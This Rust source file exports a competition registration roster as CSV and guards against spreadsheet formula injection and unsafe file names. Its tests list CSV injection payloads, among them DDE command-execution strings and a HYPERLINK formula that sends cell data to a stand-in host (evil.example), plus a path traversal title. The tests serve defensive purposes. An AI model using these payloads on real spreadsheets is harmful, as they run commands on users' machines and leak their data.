//! A roster as CSV (RFC 4180), for spreadsheets.
//!
//! The file begins with a byte order mark. Without one Excel does not recognize UTF-8 and garbles
//! every name that is not ASCII; other programs skip it.
//!
//! Spreadsheets evaluate cells that look like formulas, so the name of a participant could run
//! commands on the organizer's machine. An apostrophe before a formula makes it text. Every cell is
//! quoted, because a spreadsheet may split unquoted ones at other characters than the comma.

use axum::{
    body::{Body, Bytes},
    http::{HeaderValue, header},
    response::{IntoResponse, Response},
};
use csv::{QuoteStyle, Terminator, WriterBuilder};
use domain::{Question, RosterEntry};
use futures::{Stream, StreamExt, TryStreamExt, stream};
use service::registration::RosterExport;

const BYTE_ORDER_MARK: &str = "\u{feff}";
/// The first columns. The access code follows, where the competition asks for one, and its
/// questions.
const HEADER: [&str; 5] = ["Name", "Email", "Status", "Registered at", "Registration ID"];
/// Characters that a formula can begin with, including full-width forms. From OWASP's page on CSV
/// injection.
const FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
/// The most characters of a title in the name of a file.
const MAX_NAME: usize = 60;

/// Streams a roster as a file, as fast as the client reads it.
pub(super) fn respond(export: RosterExport) -> Response {
    let headers = [
        (header::CONTENT_TYPE, HeaderValue::from_static("text/csv; charset=utf-8")),
        (header::CONTENT_DISPOSITION, disposition(export.title())),
        // Personal data must not be cached.
        (header::CACHE_CONTROL, HeaderValue::from_static("private, no-store")),
    ];
    (headers, Body::from_stream(parts(export))).into_response()
}

/// The text of the file in parts. An error aborts the download, so that a browser does not save an
/// incomplete file.
fn parts(export: RosterExport) -> impl Stream<Item = Result<Bytes, service::Error>> {
    let head = BYTE_ORDER_MARK.to_owned() + &text([head(&export)]);
    let rest = stream::try_unfold(export, async |mut export: RosterExport| {
        let part = export.next_part().await.inspect_err(|error| {
            let error = error as &dyn std::error::Error;
            tracing::error!(error, "a roster download was aborted");
        })?;
        let lines = text(part.iter().map(|entry| cells(entry, &export)));
        Ok((!part.is_empty()).then_some((lines, export)))
    });
    stream::once(async { Ok(head) }).chain(rest).map_ok(Bytes::from)
}

/// The names of the columns.
fn head(export: &RosterExport) -> Vec<String> {
    let questions = export.questions();
    let columns = HEADER.iter().map(|name| (*name).to_owned());
    let code = export.has_access_codes().then(|| "Access code".to_owned());
    let asked = questions.asked.iter().map(|question| question.label.clone());
    let removed = questions.removed.iter();
    let removed = removed.map(|question| format!("{} (removed)", question.label));
    columns.chain(code).chain(asked).chain(removed).collect()
}

fn cells(entry: &RosterEntry, export: &RosterExport) -> Vec<String> {
    let RosterEntry {
        registration,
        user,
        answers,
        access_code,
        rejection_reason: _,
        waitlist_position: _,
        mail_refused: _,
    } = entry;
    let questions = export.questions();
    let columns = [
        user.name.clone(),
        user.email.clone(),
        registration.status.to_string(),
        registration.registered_at.to_string(),
        registration.id.to_string(),
    ];
    let code = export.has_access_codes().then(|| access_code.clone().unwrap_or_default());
    let answer = |question: &Question| {
        let answer = answers.iter().find(|answer| answer.question_id == question.id);
        answer.map(|answer| answer.value.in_words()).unwrap_or_default()
    };
    let all = questions.asked.iter().chain(&questions.removed);
    columns.into_iter().chain(code).chain(all.map(answer)).collect()
}

fn text(rows: impl IntoIterator<Item = Vec<String>>) -> String {
    let mut writer = WriterBuilder::new()
        .quote_style(QuoteStyle::Always)
        .terminator(Terminator::CRLF)
        .from_writer(Vec::new());
    for row in rows {
        let row = row.into_iter().map(inert);
        writer.write_record(row).expect("writing to memory cannot fail");
    }
    let bytes = writer.into_inner().expect("flushing to memory cannot fail");
    String::from_utf8(bytes).expect("text between quotes is text")
}

/// The cell as text that no spreadsheet evaluates. A negative number is no formula.
fn inert(cell: String) -> String {
    let is_number = cell.strip_prefix('-').is_some_and(|rest| {
        rest.parse::<f64>().is_ok() && rest.starts_with(|c: char| c.is_ascii_digit())
    });
    let is_formula = cell.trim_start_matches(' ').starts_with(FORMULA) && !is_number;
    if is_formula { format!("'{cell}") } else { cell }
}

/// A file name that is valid on every system, without characters that end the header's value.
fn disposition(title: &str) -> HeaderValue {
    let mut name = String::new();
    for c in title.to_lowercase().chars().take(MAX_NAME) {
        if c.is_ascii_alphanumeric() {
            name.push(c);
        } else if !name.is_empty() && !name.ends_with('-') {
            name.push('-');
        }
    }
    let name = name.trim_end_matches('-');
    let name = if name.is_empty() { "competition" } else { name };
    let value = format!("attachment; filename=\"{name}-registrations.csv\"");
    HeaderValue::try_from(value).expect("letters, digits and hyphens")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// From OWASP's page on CSV injection, and from known attacks.
    const FORMULAS: [&str; 14] = [
        "=1+1",
        "=1+1\";=1+1",
        "=1+1'\" ;,=1+1",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://evil.example?x=\"&A1,\"Click\")",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "  =1+1",
        "＠SUM(1+1)",
    ];

    #[test]
    fn a_formula_in_a_cell_becomes_text() {
        for formula in FORMULAS {
            let row = HEADER.map(|_| formula.to_owned()).to_vec();
            let text = text([row]);
            let mut reader =
                csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
            let record = reader.records().next().unwrap().unwrap();
            assert_eq!(record.len(), HEADER.len(), "{formula} breaks out of its cell");
            for cell in &record {
                assert_eq!(cell, format!("'{formula}"));
            }
        }
    }

    #[test]
    fn cells_are_quoted_and_unchanged() {
        let row = ["Ada \"Countess\" Lovelace", "a,b", "x;=1+1", "Zoë", "-5.5"];
        let text = text([row.map(str::to_owned).to_vec()]);
        let expected = "\"Ada \"\"Countess\"\" Lovelace\",\"a,b\",\"x;=1+1\",\"Zoë\",\"-5.5\"\r\n";
        assert_eq!(text, expected);
    }

    #[test]
    fn a_file_name_holds_only_ascii_letters_digits_and_hyphens_of_the_title() {
        for (title, name) in [
            ("Code Sprint 2025", "code-sprint-2025-registrations.csv"),
            ("  Zürich: \"Öffentlich\"\r\nX: y ", "z-rich-ffentlich-x-y-registrations.csv"),
            ("../../etc/passwd", "etc-passwd-registrations.csv"),
            ("大会", "competition-registrations.csv"),
        ] {
            let expected = format!("attachment; filename=\"{name}\"");
            assert_eq!(disposition(title), expected, "{title}");
        }
        let long = disposition(&"x".repeat(200));
        assert!(long.len() < 110, "{long:?}");
    }
}
